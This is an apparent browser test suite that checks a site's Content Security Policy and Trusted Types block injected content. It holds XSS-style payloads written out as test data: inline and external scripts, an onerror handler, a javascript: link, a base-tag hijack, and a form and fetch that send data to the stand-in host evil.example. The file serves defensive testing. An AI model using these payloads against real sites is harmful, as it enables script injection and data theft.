import type { Page } from 'playwright-core'
import { describe, expect, test } from 'vitest'
import { long } from '../support/long'
import { realSiteBrowser } from '../support/real-site-browser'
import { refusalsOf } from '../support/refusals'

const newPage = realSiteBrowser()

/** Opens the home page with injected markup, as an attacker would. */
async function openWith(markup: string): Promise<{ page: Page; refused: string[] }> {
  const page = await newPage()
  const refused = await refusalsOf(page)
  await page.route('/', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('</main>', () => `<div id="in">${markup}</div></main>`)
    await route.fulfill({ response, body })
  })
  await page.goto('/')
  return { page, refused }
}

/** In milliseconds: violations are reported with a delay, which is longer on a busy machine. */
const patience = { timeout: 10_000 }

const evil = 'https://evil.example'

describe('content that is injected into a page is refused', () => {
  test.each([
    ['a script', '<script>document.title = "in"</script>', 'script-src-elem inline'],
    ['a script from elsewhere', `<script src="${evil}/a.js"></script>`, `script-src-elem ${evil}/a.js`],
    ['a handler', '<img src="/none.png" onerror="document.title = \'in\'">', 'script-src-attr inline'],
    ['a style', '<style>#in { outline: 9px solid }</style>', 'style-src-elem inline'],
    ['a style sheet from elsewhere', `<link rel="stylesheet" href="${evil}/a.css">`, `style-src-elem ${evil}/a.css`],
    ['a style in an attribute', '<p style="outline: 9px solid">a</p>', 'style-src-attr inline'],
    ['a picture from elsewhere', `<img src="${evil}/a.png" alt="">`, `img-src ${evil}/a.png`],
    ['a picture in the page', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="">', 'img-src data'],
    [
      'a font from elsewhere',
      `<link rel="preload" as="font" crossorigin href="${evil}/a.woff2">`,
      `font-src ${evil}/a.woff2`,
    ],
    ['a frame', `<iframe src="${evil}/"></iframe>`, `frame-src ${evil}`],
    ['an object', `<object data="${evil}/a.svg"></object>`, `object-src ${evil}`],
    ['a base', `<base href="${evil}/">`, `base-uri ${evil}/`],
  ])('%s', long, async (_, markup, words) => {
    const { page, refused } = await openWith(markup)
    await expect.poll(() => refused.join('\n'), patience).toContain(words)
    const outlines = page
      .locator('#in, #in p')
      .evaluateAll((all) => all.map((one) => getComputedStyle(one).outlineStyle))
    expect([await page.title(), ...(await outlines)].join()).not.toMatch(/^in$|solid/)
  })

  test('a link to a script', async () => {
    const { page, refused } = await openWith('<a href="javascript:document.title = \'in\'">come</a>')
    await page.getByRole('link', { name: 'come' }).click()
    await expect.poll(() => refused.join('\n'), patience).toContain('script-src-elem inline')
    expect(await page.title()).not.toBe('in')
  })

  test('a form that sends the address elsewhere', async () => {
    const { page, refused } = await openWith(`<form action="${evil}/"><input name="email"><button>send</button></form>`)
    await page.getByRole('button', { name: 'send' }).click({ noWaitAfter: true })
    await expect.poll(() => refused.join('\n'), patience).toContain(`form-action ${evil}`)
  })
})

describe('unsafe uses of untrusted text by a script are refused', () => {
  test.each([
    ['makes markup of it', () => document.body.insertAdjacentHTML('beforeend', '<b>in</b>')],
    ['runs it later', () => setTimeout('document.title = 1')],
    [
      'gives it to a script',
      () => document.head.append(Object.assign(document.createElement('script'), { text: '1' })),
    ],
    ['has it trusted', () => Reflect.get(window, 'trustedTypes').createPolicy('mine', {})],
  ])('%s', async (_, act) => {
    const { page } = await openWith('')
    await expect(page.evaluate(act)).rejects.toThrow(/TypeError|EvalError/)
  })

  test('sends it elsewhere', async () => {
    const { page, refused } = await openWith('')
    await expect(page.evaluate(() => fetch('https://evil.example/'))).rejects.toThrow('Failed to fetch')
    // The tests let no request out in any case.
    await expect.poll(() => refused.join('\n'), patience).toContain(`connect-src ${evil}/`)
  })
})
